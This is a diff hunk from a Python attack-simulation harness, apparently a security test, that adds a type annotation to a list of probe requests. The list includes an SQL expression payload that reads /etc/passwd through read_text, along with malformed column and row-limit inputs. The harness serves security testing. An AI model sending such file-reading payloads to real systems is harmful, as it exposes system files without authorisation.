@@ -124,7 +124,7 @@ def other_queries(attacker: Attacker) -> Figure:
     own = attacker.own_size()
     sql = {"expressionType": "SQL", "label": "x", "sqlExpression": EXPRESSION}
     secret = {**sql, "sqlExpression": "(SELECT max(content) FROM read_text('/etc/passwd'))"}
-    bodies = [
+    bodies: list[Any] = [
         attacker.question(columns=[sql]), attacker.question(columns=[secret]), attacker.question(metrics=[sql]),
         attacker.question(orderby=[[sql, True]]), attacker.question(columns=["no_existe"]),
         attacker.question(row_limit=10_000_000), attacker.question(row_limit=0), attacker.question(row_offset=-5),
